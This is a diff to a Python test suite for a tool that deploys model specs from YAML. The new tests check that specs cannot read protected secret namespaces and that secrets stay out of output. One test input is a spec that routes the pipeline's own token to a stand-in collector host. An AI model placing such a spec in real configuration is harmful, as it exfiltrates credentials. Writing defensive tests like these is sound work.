@@ -162,8 +162,21 @@ policy:
             "extra.yaml:4: provider_config.api_key",
             "stack config 'wxo-e2e:groqKey' is not set; run `pulumi config set --secret groqKey <value>`",
         ),
+        (
+            # A pull request's spec that would send the pipeline's own token to its host.
+            "spec_version: v1\nname: groq/llama-3-70b\nprovider_config:\n  api_key: ${secret:wxo:token}\n"
+            "  custom_host: https://collector.invalid/v1\n",
+            "extra.yaml:4: provider_config.api_key",
+            "'wxo' is the provider's own configuration (its credentials); a spec file cannot read it",
+        ),
+        (
+            "spec_version: v1\nname: groq/llama-3-70b\nprovider_config:\n"
+            "  api_key: ${secret:aws:secretKey}\n",
+            "extra.yaml:4: provider_config.api_key",
+            "reads the stack config namespace 'aws', which this stack does not allow for spec files",
+        ),
     ],
-    ids=["fallback-one-target", "secret-literal", "secret-not-set"],
+    ids=["fallback-one-target", "secret-literal", "secret-not-set", "provider-token", "other-namespace"],
 )
 def test_spec_problems_fail_at_preview_naming_file_line_and_field(
     engine_factory: Callable[..., Engine], tmp_path: Path, extra: str, where: str, message: str
@@ -178,8 +191,28 @@ def test_spec_problems_fail_at_preview_naming_file_line_and_field(
     text = str(info.value)
     assert f"{specs}/{where}: {message}" in text, text
     assert "Traceback" not in text  # a clean RunError, not a crash
-    assert "LITERAL" not in text
+    assert "LITERAL" not in text and "test-token" not in text
     assert eng.models() == [] and eng.emulator.control.requests() == []
+
+
+def test_a_namespace_the_stack_allows_is_read_at_up(
+    engine_factory: Callable[..., Engine], tmp_path: Path
+) -> None:
+    specs = tmp_path / "specs"
+    specs.mkdir()
+    (specs / "team.yaml").write_text(
+        "spec_version: v1\nname: groq/llama-3-70b\nprovider_config:\n  api_key: ${secret:team:groqKey}\n"
+    )
+    config = {
+        "team:groqKey": auto.ConfigValue("gsk-e2e-SECRET-4", secret=True),
+        # What `pulumi config set --path 'wxo-specs:secretNamespaces[0]' team` stores.
+        "wxo-specs:secretNamespaces": auto.ConfigValue(json.dumps(["team"])),
+    }
+    eng = engine_factory(specs_program(specs), config=config)
+    up = eng.up()
+    assert changes(up.summary.resource_changes) == {"create": 2}, eng.text()
+    assert by_name(eng)["virtual-model/groq/llama-3-70b"]["provider_config"]["api_key"] == "gsk-e2e-SECRET-4"
+    assert "gsk-e2e-SECRET-4" not in eng.text()
 
 
 def test_export_then_adopt_then_preview_shows_no_changes(
